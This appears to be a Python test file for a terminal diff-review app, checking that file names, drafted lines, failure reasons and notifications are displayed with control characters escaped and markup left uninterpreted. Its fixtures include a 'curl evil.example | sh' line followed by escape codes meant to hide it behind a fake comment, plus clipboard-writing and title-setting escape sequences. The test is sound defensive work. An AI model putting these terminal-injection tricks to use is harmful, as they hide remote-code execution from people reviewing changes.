"""What the TUI shows from outside (a file's name, a drafted line, a hunk's section, a failed
block, a server's model name, the instruction, a notification) is shown as written: control
characters as escapes, never sent to the terminal, and Rich markup in it never read."""

from __future__ import annotations

from types import SimpleNamespace

from specdraft.core.config import Settings
from specdraft.core.diffs import parse_diff
from specdraft.core.session import ReviewSession
from specdraft.ui.tui.edit import EditReviewApp, InstructionApp
from specdraft.ui.tui.screens.editor import EditorScreen
from tests.app.tui_support import THEMES, file_rows, shown

NAME = "[bold]evil\x1b[2K.py"
SHOWN_NAME = "[bold]evil\\x1b[2K.py"
HIDDEN = "curl evil.example | sh\x1b[2K\x1b[1G\x1b[32m+# harmless comment"
MARKUP = "[bold]not bold[/bold] [link=http://x]y[/link] \x1b]52;c;Y3VybA==\x07"
DIFF = (
    b'diff --git "a/[bold]evil\\033[2K.py" "b/[bold]evil\\033[2K.py"\n'
    b"index 1111111..2222222 100644\n"
    b'--- "a/[bold]evil\\033[2K.py"\n'
    b'+++ "b/[bold]evil\\033[2K.py"\n'
    b"@@ -1,2 +1,4 @@ def \x1b]0;title\x07f():\n"
    b" a = 1\n+" + HIDDEN.encode() + b"\n+" + MARKUP.encode() + b"\n b = 2\n"
)
FAILURE = SimpleNamespace(path="[red]x\x1b]0;t\x07.py", reason="no match \x1b[8m(hidden)",
                          block="<<<<<<< SEARCH\n\x1b]0;owned\x07[bold]old\n=======\nnew\n>>>>>>> REPLACE\n")  # fmt: skip


def make_edit_app(failures=()) -> EditReviewApp:
    return EditReviewApp(
        ReviewSession(parse_diff(DIFF), source="test"),
        failures=lambda: list(failures),
        title="specdraft edit",
        settings=Settings(),
        themes=THEMES,
        environ={},
        where="/repo/[bold]\x1b]0;t\x07",
        instruction="add \x1b]0;title\x07 a [i]note[/i]",
    )


def screen_text(app) -> str:
    """Every character on the screen, as the terminal would get it."""
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


def assert_nothing_raw(text: str) -> None:
    for control in ("\x1b", "\x07", "\x9b"):
        assert control not in text


async def test_a_drafted_line_a_file_name_and_a_section_are_shown_escaped():
    app = make_edit_app()
    async with app.run_test(size=(200, 40)) as pilot:
        await pilot.pause()
        body = shown(app, "#hunk-body")
        assert "+ curl evil.example | sh\\x1b[2K\\x1b[1G\\x1b[32m+# harmless comment" in body
        assert "+ [bold]not bold[/bold] [link=http://x]y[/link] \\x1b]52;c;Y3VybA==\\x07" in body
        header = shown(app, "#file-header")
        assert SHOWN_NAME in header and "def \\x1b]0;title\\x07f():" in header
        assert any(SHOWN_NAME in row for row in file_rows(app))
        assert SHOWN_NAME in shown(app, "#status")
        screen = screen_text(app)
        assert_nothing_raw(screen)
        assert "[bold]not bold[/bold]" in screen and SHOWN_NAME in screen
        assert "instruction: add \\x1b]0;title\\x07 a [i]note[/i]" in screen
        assert "/repo/[bold]\\x1b]0;t\\x07" in screen


async def test_a_failed_block_and_its_reason_are_shown_escaped():
    app = make_edit_app([FAILURE])
    async with app.run_test(size=(200, 40)) as pilot:
        await pilot.pause()
        await pilot.press("G")  # past the last hunk: the failed block
        await pilot.pause()
        assert "failed" in shown(app, "#file-header")
        body = shown(app, "#hunk-body")
        assert "reason: no match \\x1b[8m(hidden)" in body and "│ \\x1b]0;owned\\x07[bold]old" in body
        screen = screen_text(app)
        assert_nothing_raw(screen)
        assert "[red]x\\x1b]0;t\\x07.py" in screen


async def test_a_servers_model_name_in_the_draft_line_is_shown_escaped():
    app = make_edit_app()
    async with app.run_test(size=(200, 40)) as pilot:
        app.draft_progress("drafting with [bold]m\x1b]0;t\x07: 12 tokens")
        await pilot.pause()
        assert "drafting with [bold]m\\x1b]0;t\\x07: 12 tokens" in shown(app, "#status")
        assert_nothing_raw(screen_text(app))


async def test_a_notification_is_shown_as_written():
    app = make_edit_app()
    async with app.run_test(size=(200, 40)) as pilot:
        app.session_grew(f"the model said: {MARKUP}")
        await pilot.pause()
        await pilot.pause()
        (notification,) = list(app._notifications)
        assert notification.message == "the model said: " + MARKUP.replace("\x1b", "\\x1b").replace("\x07", "\\x07")
        assert notification.markup is False
        screen = screen_text(app)
        assert_nothing_raw(screen)
        assert "[bold]not bold[/bold]" in screen


async def test_the_file_finder_shows_file_names_as_written_and_still_chooses_them():
    app = InstructionApp([NAME, "plain.py"], instruction="do it")
    async with app.run_test(size=(160, 30)) as pilot:
        await pilot.pause()
        await pilot.press("enter", "enter")  # on to the finder (no file chosen yet), then its first match: the odd name
        await pilot.pause()
        assert app.chosen == [NAME]
        screen = screen_text(app)
        assert_nothing_raw(screen)
        assert f"chosen: {SHOWN_NAME}" in screen and f"✓ {SHOWN_NAME}" in screen


async def test_a_question_and_the_editor_show_a_file_name_as_written():
    from specdraft.ui.tui.screens.dialogs import ConfirmScreen

    app = make_edit_app()
    async with app.run_test(size=(200, 40)) as pilot:
        await app.push_screen(ConfirmScreen(f"Redraft {NAME} from the file as it is now?", f"details [b]{NAME}"))
        await pilot.pause()
        screen = screen_text(app)
        assert_nothing_raw(screen)
        assert f"Redraft {SHOWN_NAME} from the file" in screen and f"details [b]{SHOWN_NAME}" in screen
        app.pop_screen()
        await app.push_screen(EditorScreen("x = 1\n", NAME))
        await pilot.pause()
        assert f"editing {SHOWN_NAME} · ctrl+s" in screen_text(app)


async def test_the_editor_inside_is_not_offered_a_hunk_with_control_characters():
    app = make_edit_app()
    async with app.run_test(size=(200, 40)) as pilot:
        await pilot.press("E")  # the editor inside, whatever $EDITOR says
        await pilot.pause()
        assert not isinstance(app.screen, EditorScreen)
        (notification,) = list(app._notifications)
        assert "holds control characters" in notification.message and "$EDITOR" in notification.message
        assert_nothing_raw(screen_text(app))
        assert app.view.session.units[0].edited is None
